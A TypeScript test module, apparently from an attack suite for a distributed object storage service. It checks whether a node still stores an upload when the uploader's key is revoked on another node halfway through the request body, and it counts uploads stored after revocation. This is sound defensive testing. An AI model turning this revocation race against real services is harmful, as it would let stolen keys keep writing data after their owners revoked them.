/** A key that is revoked while half of a body has come: how many of its uploads are stored all the same. */
import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, AttackTarget } from './attack.ts'
import { ask, BareSocket, headOf } from './call.ts'
import { puts } from './victims.ts'

const HALF = Buffer.alloc(2048, 1)
/** Enough for a node to prove the caller and wait for the rest of the body. */
const PROVED_MS = 500
const ANSWER_MS_MAX = 10_000
const LOOK_EVERY_MS = 20

export const revokedKeys: Attack = {
  id: 'D13',
  title: 'uploads whose key is revoked half-way',
  victim: puts(100_000),
  run: async (target, signal) => {
    const counts: Record<string, number> = { 'stored after the revocation': 0 }
    while (!signal.aborted)
      await Promise.all(
        target.nodes.map(async (_, n) => {
          const status = await uploadAcrossRevocation(target, n)
          const name = status === 200 ? 'stored after the revocation' : `status ${status}`
          counts[name] = (counts[name] ?? 0) + 1
        }),
      )
    return counts
  },
}

/** The status of the upload; 0: no answer in time. Revokes at the node after the one that takes the upload. */
async function uploadAcrossRevocation(target: AttackTarget, n: number): Promise<number> {
  const { nodes, evil } = target
  const node = nodes[n] ?? nodes[0]
  const other = nodes[(n + 1) % nodes.length] ?? node
  if (node === undefined || other === undefined) return 0
  const keys = `${other.adminUrl}/admin/api/v1/tenants/${evil.tenantId}/keys`
  const made = await administer(target, keys, { scopes: 'write' })
  const key = made as { readonly accessKeyId: string; readonly secretKey: string }
  const authorization = `Bearer ${await tokenOf(node.dataUrl, key)}`
  const path = `/api/v1/buckets/${evil.bucket}/objects/revoked/${key.accessKeyId}`
  const length = `${2 * HALF.length}`
  const socket = new BareSocket(
    node.dataUrl,
    headOf('PUT', path, { authorization, 'content-length': length }),
  )
  socket.send(HALF)
  await wait(PROVED_MS)
  await administer(target, `${keys}/${key.accessKeyId}/revoke`, { reason: 'stolen' })
  socket.send(HALF)
  for (let waitedMs = 0; socket.status === 0 && waitedMs < ANSWER_MS_MAX; waitedMs += LOOK_EVERY_MS)
    await wait(LOOK_EVERY_MS)
  socket.destroy()
  return socket.status
}

async function tokenOf(
  dataUrl: string,
  { accessKeyId, secretKey }: { readonly accessKeyId: string; readonly secretKey: string },
): Promise<string> {
  const basic = Buffer.from(`${accessKeyId}:${secretKey}`).toString('base64')
  const { status, bytes } = await ask(`${dataUrl}/api/v1/auth/token`, {
    method: 'POST',
    headers: { authorization: `Basic ${basic}` },
  })
  if (status !== 200) throw new Error(`auth/token gave ${status}: ${bytes.toString()}`)
  return (JSON.parse(bytes.toString()) as { readonly token: string }).token
}

async function administer({ ownerToken }: AttackTarget, url: string, body: object): Promise<unknown> {
  const { status, bytes } = await ask(url, {
    method: 'POST',
    headers: { authorization: `Bearer ${ownerToken}`, 'content-type': 'application/json' },
    body: Buffer.from(JSON.stringify(body)),
  })
  if (status >= 300) throw new Error(`${url} gave ${status}: ${bytes.toString()}`)
  return JSON.parse(bytes.toString())
}
